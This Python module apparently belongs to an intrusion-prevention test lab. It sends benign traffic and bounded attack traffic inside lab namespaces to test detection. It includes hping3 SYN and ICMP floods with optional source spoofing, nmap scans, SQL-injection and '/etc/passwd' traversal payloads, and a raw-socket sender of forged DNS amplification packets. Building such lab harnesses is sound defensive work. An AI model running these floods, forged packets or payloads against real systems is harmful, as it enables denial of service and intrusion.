"""Real benign and attack traffic in the lab, from the client and attacker namespaces.

What it does: runs the usual tools inside the lab's namespaces against the
lab's server (10.77.3.80 / 10.77.3.0/24) and returns a :class:`Result` saying
what was sent, the exit code and what succeeded:

* benign, from the client: :func:`http_gets` (curl, paced),
  :func:`dns_queries` (dig), :func:`bulk_download` (curl of the 20 MB file),
  :func:`iperf` (iperf3 throughput);
* attacks, from the attacker: :func:`syn_flood` (hping3, optionally with
  ``--rand-source``), :func:`port_scan` (nmap -sS), :func:`ping_sweep`
  (nmap -sn), :func:`icmp_flood` (hping3 -1), :func:`sqli` and
  :func:`path_traversal` (curl), :func:`dns_amplification` (large, forged
  DNS answers from UDP port 53 sent by ``python -m inline_ips.lab.attacks
  dns-amp`` inside the attacker namespace).

Every run is bounded twice: by a packet or request count, and by
``timeout`` around the tool (plus a subprocess timeout behind that). Floods
use ``hping3 -c N -i u10`` and never ``--flood``, which ignores ``-c``.
Only addresses inside the lab are ever targeted; the targets are fixed
(:data:`~inline_ips.lab.topology.SERVER_IP`, ``SERVER_NET``) and the
namespaces have no route out of the lab.

Rates against the default rules (rules.yaml): the floods run at tens of
thousands of packets a second and the scans probe hundreds of ports or
hosts in seconds, far above the thresholds; the benign helpers are paced
(50 HTTP connections/s by default, against 500 SYNs/s per source) and
stay far below them.

The floods count the server's replies with a counting-only
``iptables-legacy`` chain (``IIPS_REPLIES``) in the attacker namespace.

What it does not do: start the lab or its services, judge whether the IPS
stopped anything (compare :func:`inline_ips.lab.services.server_counters`
before and after), or send anything without a running lab.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import re
import socket
import struct
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from collections.abc import Sequence
from dataclasses import dataclass

from inline_ips.lab.services import BULK_BYTES, BULK_FILE, DNS_ZONE, IPERF_PORT
from inline_ips.lab.topology import SERVER_NET, Lab, exec_in

SQLI_PATHS = ("/?id=1%20UNION%20SELECT%20user,password%20FROM%20users--",)
TRAVERSAL_PATHS = ("/?page=../../../../etc/passwd", "/../../../../etc/passwd")

_HPING_STATS = re.compile(r"(\d+) packets tra\w*itted, (\d+) packets received")
_PROJECT_ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))


@dataclass(frozen=True)
class Result:
    """One run of a tool: what was sent and what came of it.

    ``sent``: packets, requests or queries sent (as the tool reports it
    where it does). ``succeeded``: what came back to the sender: HTTP
    responses, DNS answers, replies to a flood (counted by the attacker's
    kernel), open ports, hosts up; for the reflected DNS answers (which
    expect no reply) the datagrams sent.
    ``returncode`` 124 means ``timeout`` stopped the tool.
    """

    name: str
    argv: tuple[str, ...]
    returncode: int
    sent: int
    succeeded: int
    seconds: float
    nbytes: int = 0
    details: tuple[str, ...] = ()
    output: str = ""

    @property
    def timed_out(self) -> bool:
        return self.returncode == 124

    @property
    def rate(self) -> float:
        """Sent per second over the whole run (tool start-up included)."""
        return self.sent / self.seconds if self.seconds > 0 else 0.0


def _run(
    lab: Lab, role: str, argv: list[str], limit: float
) -> tuple[subprocess.CompletedProcess[str], float]:
    """Run argv in a namespace under ``timeout`` (SIGINT first, so hping3 prints its statistics)."""
    cmd = ["timeout", "-s", "INT", "-k", "5", f"{limit:.0f}", *argv]
    t0 = time.monotonic()
    cp = exec_in(lab, role, cmd, timeout=limit + 30, env=_env())
    return cp, time.monotonic() - t0


def _env() -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(p for p in (_PROJECT_ROOT, env.get("PYTHONPATH", "")) if p)
    return env


def _tail(cp: subprocess.CompletedProcess[str], n: int = 2000) -> str:
    return ((cp.stdout or "") + (cp.stderr or ""))[-n:]


def _result(
    name: str,
    cp: subprocess.CompletedProcess[str],
    seconds: float,
    sent: int,
    succeeded: int,
    nbytes: int = 0,
    details: Sequence[str] = (),
) -> Result:
    args = cp.args if isinstance(cp.args, list) else [str(cp.args)]
    return Result(
        name=name,
        argv=tuple(str(a) for a in args),
        returncode=cp.returncode,
        sent=sent,
        succeeded=succeeded,
        seconds=seconds,
        nbytes=nbytes,
        details=tuple(details),
        output=_tail(cp),
    )


def _url(lab: Lab, path: str) -> str:
    return f"http://{lab.server_ip}{path}"


# ---- parsing (pure, tested without a lab) ------------------------------------


def parse_hping(text: str) -> tuple[int, int]:
    """(transmitted, received) from hping3's closing statistics; (0, 0) if absent."""
    m = _HPING_STATS.search(text)
    return (int(m.group(1)), int(m.group(2))) if m else (0, 0)


def parse_http_codes(text: str) -> list[int]:
    """One ``%{http_code}`` per line; 0 is what curl writes when no response came."""
    return [int(line) for line in text.split() if line.isdigit() and len(line) == 3]


def parse_dig_answers(text: str) -> list[tuple[str, str, str]]:
    """(name, type, data) of each answer line of ``dig +noall +answer``."""
    out: list[tuple[str, str, str]] = []
    for line in text.splitlines():
        cols = line.split()
        if len(cols) >= 5 and not line.startswith(";") and cols[2] == "IN":
            out.append((cols[0].rstrip("."), cols[3], cols[4]))
    return out


@dataclass(frozen=True)
class NmapReport:
    hosts_total: int
    hosts_up: list[str]
    ports_scanned: int
    open_ports: list[str]
    elapsed: float


def parse_nmap_xml(text: str) -> NmapReport:
    """The parts of ``nmap -oX -`` the lab needs; an empty report for unparsable output."""
    try:
        root = ET.fromstring(text)
    except ET.ParseError:
        return NmapReport(0, [], 0, [], 0.0)
    up: list[str] = []
    open_ports: list[str] = []
    for host in root.iter("host"):
        status = host.find("status")
        addr = host.find("address")
        if status is not None and status.get("state") == "up" and addr is not None:
            up.append(addr.get("addr", ""))
        for port in host.iter("port"):
            state = port.find("state")
            if state is not None and state.get("state") == "open":
                open_ports.append(f"{port.get('protocol')}/{port.get('portid')}")
    scanned = sum(int(si.get("numservices", "0")) for si in root.iter("scaninfo"))
    hosts = root.find("runstats/hosts")
    finished = root.find("runstats/finished")
    return NmapReport(
        hosts_total=int(hosts.get("total", "0")) if hosts is not None else 0,
        hosts_up=up,
        ports_scanned=scanned,
        open_ports=open_ports,
        elapsed=float(finished.get("elapsed", "0")) if finished is not None else 0.0,
    )


# ---- benign --------------------------------------------------------------------


def http_gets(lab: Lab, n: int = 20, *, per_second: int = 50, path: str = "/index.html") -> Result:
    """n GETs from the client, one connection each, paced at ``per_second``.

    The pacing (curl ``--rate``) keeps this a user, not a flood: 50
    connections/s is a tenth of the per-source SYN threshold.
    """
    url = _url(lab, f"{path}?n=[1-{n}]")  # curl's URL glob: n requests from one process
    argv = ["curl", "-sS", "--max-time", "5", "--rate", f"{per_second}/s", "-o", "/dev/null"]
    argv += ["-w", "%{http_code}\n", url]
    cp, secs = _run(lab, "client", argv, limit=n / per_second + 15)
    codes = parse_http_codes(cp.stdout)
    ok = sum(1 for c in codes if 200 <= c < 400)
    return _result("http_gets", cp, secs, n, ok, details=[str(c) for c in codes])


def dns_queries(lab: Lab, n: int = 20) -> Result:
    """n A queries for distinct ``host<i>.lab.test`` names from the client, one after another."""
    names = [f"host{i}.{DNS_ZONE}" for i in range(1, n + 1)]
    argv = ["dig", f"@{lab.server_ip}", "+tries=1", "+time=2", "+noall", "+answer", *names]
    cp, secs = _run(lab, "client", argv, limit=2 * n + 10)
    answers = [a for a in parse_dig_answers(cp.stdout) if a[1] == "A" and a[2] == lab.server_ip]
    return _result("dns_queries", cp, secs, n, len({a[0] for a in answers}), details=[a[0] for a in answers])


def bulk_download(lab: Lab, *, expected_bytes: int = BULK_BYTES) -> Result:
    """One download of the 20 MB file; ``seconds`` is curl's own transfer time."""
    argv = ["curl", "-sS", "--max-time", "60", "-o", "/dev/null"]
    argv += ["-w", "%{http_code} %{size_download} %{time_total}\n", _url(lab, f"/{BULK_FILE}")]
    cp, secs = _run(lab, "client", argv, limit=70)
    parts = cp.stdout.split()
    code, size, total = (int(parts[0]), int(parts[1]), float(parts[2])) if len(parts) == 3 else (0, 0, secs)
    ok = int(code == 200 and size == expected_bytes)
    return _result("bulk_download", cp, total, 1, ok, nbytes=size, details=[f"http {code}"])


def iperf(lab: Lab, seconds: int = 2) -> Result:
    """iperf3 TCP throughput client -> server; ``nbytes`` received, details has bits/s."""
    argv = ["iperf3", "-c", lab.server_ip, "-p", str(IPERF_PORT), "-t", str(seconds), "-J"]
    cp, secs = _run(lab, "client", argv, limit=seconds + 15)
    try:
        end = json.loads(cp.stdout)["end"]
        received = int(end["sum_received"]["bytes"])
        bps = float(end["sum_received"]["bits_per_second"])
    except (ValueError, KeyError, TypeError):
        received, bps = 0, 0.0
    return _result("iperf", cp, secs, 1, int(received > 0), nbytes=received, details=[f"{bps:.0f} bit/s"])


# ---- attacks -------------------------------------------------------------------


REPLY_CHAIN = "IIPS_REPLIES"
_IPT = ("iptables-legacy", "-w", "5")


def _arm_reply_counter(lab: Lab, match: Sequence[str]) -> None:
    """Count the server's replies arriving at the attacker (a rule without a target: never drops).

    hping3's own reply count is unreliable at flood rates: with all replies
    delivered to the attacker it reported anything from 0 to all of them,
    so the attacker's kernel counts them instead.
    """
    exec_in(lab, "attacker", [*_IPT, "-N", REPLY_CHAIN])  # fails harmlessly when it exists
    if exec_in(lab, "attacker", [*_IPT, "-C", "INPUT", "-j", REPLY_CHAIN]).returncode != 0:
        exec_in(lab, "attacker", [*_IPT, "-I", "INPUT", "1", "-j", REPLY_CHAIN], check=True)
    exec_in(lab, "attacker", [*_IPT, "-F", REPLY_CHAIN], check=True)
    exec_in(lab, "attacker", [*_IPT, "-A", REPLY_CHAIN, "-s", lab.server_ip, *match], check=True)


def _read_reply_counter(lab: Lab) -> int:
    time.sleep(0.2)  # replies to the last packets are still on their way when hping3 exits
    cp = exec_in(lab, "attacker", [*_IPT, "-L", REPLY_CHAIN, "-v", "-x", "-n"])
    rows = [line.split() for line in cp.stdout.splitlines()[2:] if line.strip()]
    return int(rows[0][0]) if rows and rows[0][0].isdigit() else 0


def _hping(lab: Lab, name: str, argv: list[str], count: int, reply_match: Sequence[str]) -> Result:
    _arm_reply_counter(lab, reply_match)
    # About 50,000 packets/s were measured with -i u10; allow for a slow
    # machine (and a slow IPS on the return path) but never run unbounded.
    cp, secs = _run(lab, "attacker", argv, limit=max(10.0, count / 1000 + 5))
    sent, counted = parse_hping(cp.stdout + cp.stderr)
    replies = _read_reply_counter(lab)
    return _result(name, cp, secs, sent, replies, details=[f"hping3 counted {counted} replies"])


def syn_flood(
    lab: Lab, count: int = 20000, *, spoofed: bool = False, port: int = 80, interval_us: int = 10
) -> Result:
    """``count`` SYNs to server:port from the attacker; ``succeeded`` = SYN-ACKs back at the attacker.

    ``spoofed=True`` forges a random source per packet (``--rand-source``):
    the replies go to the forged addresses, so ``succeeded`` is 0; the router
    drops the forged sources Linux never forwards (0/8, 127/8, 224/3).
    """
    argv = ["hping3", "-S", "-p", str(port), "-c", str(count), "-i", f"u{interval_us}", "-q"]
    if spoofed:
        argv.append("--rand-source")
    argv.append(lab.server_ip)
    synack = ["-p", "tcp", "--sport", str(port), "--tcp-flags", "SYN,ACK", "SYN,ACK"]
    return _hping(lab, "syn_flood_spoofed" if spoofed else "syn_flood", argv, count, synack)


def icmp_flood(lab: Lab, count: int = 10000, *, interval_us: int = 10) -> Result:
    """``count`` echo requests from the attacker; ``succeeded`` = echo replies back at the attacker."""
    argv = ["hping3", "-1", "-c", str(count), "-i", f"u{interval_us}", "-q", lab.server_ip]
    return _hping(lab, "icmp_flood", argv, count, ["-p", "icmp", "--icmp-type", "echo-reply"])


def port_scan(lab: Lab, ports: str = "1-1000", *, skip_discovery: bool = False) -> Result:
    """nmap SYN scan of the server; ``succeeded`` = open ports (details lists them).

    Host discovery is on by default (an echo, a timestamp request, SYN/443
    and ACK/80 first), as an attacker would run it; ``skip_discovery`` adds -Pn.
    """
    argv = ["nmap", "-n", "-sS", f"-p{ports}", "-T4", "--max-retries", "0", "--host-timeout", "60s"]
    argv += [*(["-Pn"] if skip_discovery else []), "-oX", "-", lab.server_ip]
    cp, secs = _run(lab, "attacker", argv, limit=75)
    rep = parse_nmap_xml(cp.stdout)
    return _result("port_scan", cp, secs, rep.ports_scanned, len(rep.open_ports), details=rep.open_ports)


def ping_sweep(lab: Lab, target: str = SERVER_NET, *, echo_only: bool = False) -> Result:
    """nmap host discovery of the server's /24; ``succeeded`` = hosts up (details lists them).

    nmap as root probes each address with an echo, a timestamp request,
    SYN/443 and ACK/80; ``echo_only`` (-PE) makes it a pure ping sweep.
    """
    if target != SERVER_NET and not target.startswith("10.77."):
        raise ValueError(f"ping_sweep only targets the lab (10.77.0.0/16), not {target!r}")
    argv = ["nmap", "-n", "-sn", "-T4", *(["-PE"] if echo_only else []), "-oX", "-", target]
    cp, secs = _run(lab, "attacker", argv, limit=60)
    rep = parse_nmap_xml(cp.stdout)
    return _result("ping_sweep", cp, secs, rep.hosts_total, len(rep.hosts_up), details=rep.hosts_up)


def _curl_paths(lab: Lab, name: str, paths: Sequence[str]) -> Result:
    # -g: no URL globbing ([ ] { } are payload); --path-as-is: keep ../ as sent.
    argv = ["curl", "-sS", "-g", "--path-as-is", "--max-time", "5"]
    for p in paths:
        argv += ["-o", "/dev/null", "-w", "%{http_code}\n", _url(lab, p)]
    cp, secs = _run(lab, "attacker", argv, limit=6 * len(paths) + 5)
    codes = parse_http_codes(cp.stdout)
    got = sum(1 for c in codes if c != 0)
    return _result(name, cp, secs, len(paths), got, details=[str(c) for c in codes])


def sqli(lab: Lab, paths: Sequence[str] = SQLI_PATHS) -> Result:
    """UNION SELECT injection in a query string; ``succeeded`` = requests that got a response."""
    return _curl_paths(lab, "sqli", paths)


def path_traversal(lab: Lab, paths: Sequence[str] = TRAVERSAL_PATHS) -> Result:
    """../../etc/passwd in a query string and in the path; ``succeeded`` = responses."""
    return _curl_paths(lab, "path_traversal", paths)


def dns_amplification(
    lab: Lab, count: int = 400, *, size: int = 3000, per_second: float = 2000.0, spoofed: bool = True
) -> Result:
    """``count`` unsolicited ``size``-byte DNS answers from UDP port 53 to the server.

    A "fake resolver" in the attacker namespace: the answers come from many
    forged resolver addresses in 198.18.0.0/15 (``spoofed``) or from the
    attacker's own, fragmented like real large answers. At the default
    2000/s that is about 6 MB/s of DNS answers, against a 500 KB/s threshold.
    """
    argv = [sys.executable, "-m", "inline_ips.lab.attacks", "dns-amp", "--dst", lab.server_ip]
    argv += ["--count", str(count), "--size", str(size), "--rate", str(per_second)]
    if not spoofed:
        argv += ["--src", lab.attacker_ip]
    cp, secs = _run(lab, "attacker", argv, limit=count / per_second + 20)
    try:
        summary = json.loads(cp.stdout.strip().splitlines()[-1])
        sent, nbytes = int(summary["sent"]), int(summary["bytes"])
        details = [f"{int(summary['fragments'])} fragments", f"sent in {float(summary['seconds']):.3f} s"]
    except (ValueError, KeyError, IndexError, TypeError):
        sent, nbytes, details = 0, 0, []
    return _result("dns_amplification", cp, secs, sent, sent, nbytes=nbytes, details=details)


# ---- forged DNS answers (stdlib: the attacker subprocess starts fast) ---------


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def _dns_big_answer(qid: int, size: int, qname: str = "example.org") -> bytes:
    """A DNS response (ANY example.org -> TXT records) of at least ``size`` bytes of DNS message."""
    labels = b"".join(bytes([len(p)]) + p.encode() for p in qname.split(".")) + b"\0"
    question = labels + struct.pack("!HH", 255, 1)
    msg_len = 12 + len(question)
    records: list[bytes] = []
    while msg_len < size:
        text = b"v=spf1 " + b"x" * min(240, max(1, size - msg_len - 20))
        rdata = bytes([len(text)]) + text
        rr = b"\xc0\x0c" + struct.pack("!HHIH", 16, 1, 300, len(rdata)) + rdata
        records.append(rr)
        msg_len += len(rr)
    header = struct.pack("!6H", qid, 0x8180, 1, len(records), 0, 0)  # QR RD RA, NOERROR
    return header + question + b"".join(records)


def amplification_packets(
    dst: str, count: int, size: int = 3000, src: str | None = None, seed: int = 11, mtu: int = 1500
) -> list[list[bytes]]:
    """``count`` forged DNS answers as IPv4 packets, each split into MTU-sized fragments."""
    rng = random.Random(seed)
    out: list[list[bytes]] = []
    dst_b = socket.inet_aton(dst)
    step = (mtu - 20) // 8 * 8
    for _ in range(count):
        source = src or f"198.{rng.randrange(18, 20)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        src_b = socket.inet_aton(source)
        dns = _dns_big_answer(rng.randrange(65536), max(size - 28, 12))
        dport = rng.randrange(1024, 65536)
        ulen = 8 + len(dns)
        pseudo = src_b + dst_b + struct.pack("!BBH", 0, 17, ulen)
        csum = _checksum(pseudo + struct.pack("!HHHH", 53, dport, ulen, 0) + dns) or 0xFFFF
        datagram = struct.pack("!HHHH", 53, dport, ulen, csum) + dns
        ipid = rng.randrange(1, 65536)
        frags: list[bytes] = []
        for off in range(0, len(datagram), step):
            chunk = datagram[off : off + step]
            more = 0x2000 if off + step < len(datagram) else 0
            hdr = struct.pack(
                "!BBHHHBBH4s4s", 0x45, 0, 20 + len(chunk), ipid, more | (off // 8), 64, 17, 0, src_b, dst_b
            )
            hdr = hdr[:10] + struct.pack("!H", _checksum(hdr)) + hdr[12:]
            frags.append(hdr + chunk)
        out.append(frags)
    return out


def send_amplification(dst: str, count: int, size: int, rate: float, src: str | None) -> dict[str, float]:
    """Send the forged answers with a raw socket (IP_HDRINCL) at ``rate`` answers/s."""
    packets = amplification_packets(dst, count, size, src)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = nbytes = frags = 0
    t0 = time.monotonic()
    with sock:
        for i, answer in enumerate(packets):
            delay = t0 + i / rate - time.monotonic()
            if delay > 0:
                time.sleep(delay)
            for frag in answer:
                sock.sendto(frag, (dst, 0))
                frags += 1
                nbytes += len(frag)
            sent += 1
    return {"sent": sent, "bytes": nbytes, "fragments": frags, "seconds": round(time.monotonic() - t0, 3)}


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m inline_ips.lab.attacks")
    sub = ap.add_subparsers(dest="cmd", required=True)
    amp = sub.add_parser("dns-amp", help="send forged large DNS answers (run inside the attacker namespace)")
    amp.add_argument("--dst", required=True, help="victim address (must be in the lab, 10.77.0.0/16)")
    amp.add_argument("--count", type=int, default=400)
    amp.add_argument("--size", type=int, default=3000, help="bytes per answer (IP datagram)")
    amp.add_argument("--rate", type=float, default=2000.0, help="answers per second")
    amp.add_argument("--src", default=None, help="source address (default: forged resolvers)")
    args = ap.parse_args(argv)
    # Refuse anything outside the lab: this sends forged packets.
    if not args.dst.startswith("10.77.") or not 0 < args.count <= 1_000_000 or args.rate <= 0:
        ap.error("--dst must be a lab address (10.77.x.x), --count 1..1000000, --rate > 0")
    summary = send_amplification(args.dst, args.count, args.size, args.rate, args.src)
    print(json.dumps(summary))
    return 0


if __name__ == "__main__":
    sys.exit(main())
